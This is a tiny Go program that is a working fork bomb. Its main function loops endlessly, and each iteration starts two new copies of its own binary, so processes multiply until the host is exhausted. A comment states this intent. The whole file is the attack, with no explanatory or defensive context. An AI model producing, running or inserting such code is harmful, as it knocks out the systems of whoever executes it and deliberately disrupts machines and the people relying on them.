package main

import (
	"os"
	"os/exec"
)

// Each copy starts two more of itself, for ever.
func main() {
	for {
		for i := 0; i < 2; i++ {
			exec.Command(os.Args[0]).Start()
		}
	}
}
